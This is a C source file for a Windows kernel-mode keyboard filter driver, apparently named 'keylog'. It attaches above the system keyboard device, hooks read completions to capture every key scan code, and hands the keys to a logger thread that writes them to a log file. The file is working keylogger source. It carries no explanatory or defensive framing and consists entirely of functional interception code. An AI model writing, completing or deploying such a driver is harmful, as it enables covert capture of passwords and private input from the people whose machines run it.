#include "keylog.h"

KL_STATE g_Kl;

DRIVER_INITIALIZE      DriverEntry;
DRIVER_UNLOAD          KlUnload;
DRIVER_DISPATCH        KlPassThrough;
DRIVER_DISPATCH        KlRead;
IO_COMPLETION_ROUTINE  KlReadComplete;

NTSTATUS KlPassThrough(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    IoSkipCurrentIrpStackLocation(Irp);
    return IoCallDriver(g_Kl.LowerDevice, Irp);
}

NTSTATUS KlReadComplete(PDEVICE_OBJECT DeviceObject, PIRP Irp, PVOID Context)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    UNREFERENCED_PARAMETER(Context);

    if (NT_SUCCESS(Irp->IoStatus.Status)) {
        PKEYBOARD_INPUT_DATA keys = (PKEYBOARD_INPUT_DATA)Irp->AssociatedIrp.SystemBuffer;
        ULONG count = (ULONG)(Irp->IoStatus.Information / sizeof(KEYBOARD_INPUT_DATA));
        ULONG i;
        for (i = 0; i < count; i++)
            KlQueueKey(keys[i].MakeCode, keys[i].Flags);
    }

    if (Irp->PendingReturned)
        IoMarkIrpPending(Irp);

    InterlockedDecrement(&g_Kl.PendingIrps);
    return Irp->IoStatus.Status;
}

NTSTATUS KlRead(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    UNREFERENCED_PARAMETER(DeviceObject);

    IoCopyCurrentIrpStackLocationToNext(Irp);
    IoSetCompletionRoutine(Irp, KlReadComplete, NULL, TRUE, TRUE, TRUE);
    InterlockedIncrement(&g_Kl.PendingIrps);
    return IoCallDriver(g_Kl.LowerDevice, Irp);
}

VOID KlUnload(PDRIVER_OBJECT DriverObject)
{
    LARGE_INTEGER delay;
    UNREFERENCED_PARAMETER(DriverObject);

    KL_DBG("unload, %ld irps pending", g_Kl.PendingIrps);

    // tell the logger to flush and quit
    g_Kl.Stop = TRUE;
    KeSetEvent(&g_Kl.WorkEvent, IO_NO_INCREMENT, FALSE);
    ZwClose(g_Kl.ThreadHandle);
    g_Kl.ThreadHandle = NULL;

    IoDeleteDevice(g_Kl.FilterDevice);
    IoDetachDevice(g_Kl.LowerDevice);

    // kbdclass still holds one read from us until the next key press
    delay.QuadPart = -10 * 1000 * 100;   // 100ms
    while (g_Kl.PendingIrps > 0)
        KeDelayExecutionThread(KernelMode, FALSE, &delay);

    KL_DBG("unloaded");
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS status;
    UNICODE_STRING target;
    ULONG i;

    UNREFERENCED_PARAMETER(RegistryPath);

    RtlZeroMemory(&g_Kl, sizeof(g_Kl));
    InitializeListHead(&g_Kl.KeyList);
    KeInitializeSpinLock(&g_Kl.KeyLock);
    KeInitializeEvent(&g_Kl.WorkEvent, SynchronizationEvent, FALSE);

    for (i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++)
        DriverObject->MajorFunction[i] = KlPassThrough;
    DriverObject->MajorFunction[IRP_MJ_READ] = KlRead;
    DriverObject->DriverUnload = KlUnload;

    status = KlOpenLog();
    if (!NT_SUCCESS(status)) {
        KL_DBG("can't open log file: 0x%X", status);
        return status;
    }

    status = IoCreateDevice(DriverObject, 0, NULL, FILE_DEVICE_KEYBOARD, 0, FALSE, &g_Kl.FilterDevice);
    if (!NT_SUCCESS(status)) {
        KL_DBG("IoCreateDevice: 0x%X", status);
        goto fail_log;
    }

    RtlInitUnicodeString(&target, KL_TARGET);
    status = IoAttachDevice(g_Kl.FilterDevice, &target, &g_Kl.LowerDevice);
    if (!NT_SUCCESS(status)) {
        KL_DBG("IoAttachDevice: 0x%X", status);
        goto fail_device;
    }

    g_Kl.FilterDevice->Flags |= g_Kl.LowerDevice->Flags & (DO_BUFFERED_IO | DO_DIRECT_IO | DO_POWER_PAGABLE);
    g_Kl.FilterDevice->Flags &= ~DO_DEVICE_INITIALIZING;

    status = PsCreateSystemThread(&g_Kl.ThreadHandle, THREAD_ALL_ACCESS, NULL, NULL, NULL,
                                  KlLoggerThread, NULL);
    if (!NT_SUCCESS(status)) {
        KL_DBG("PsCreateSystemThread: 0x%X", status);
        goto fail_attach;
    }

    KL_DBG("attached to %wZ", &target);
    return STATUS_SUCCESS;

fail_attach:
    IoDetachDevice(g_Kl.LowerDevice);
fail_device:
    IoDeleteDevice(g_Kl.FilterDevice);
fail_log:
    KlCloseLog();
    return status;
}
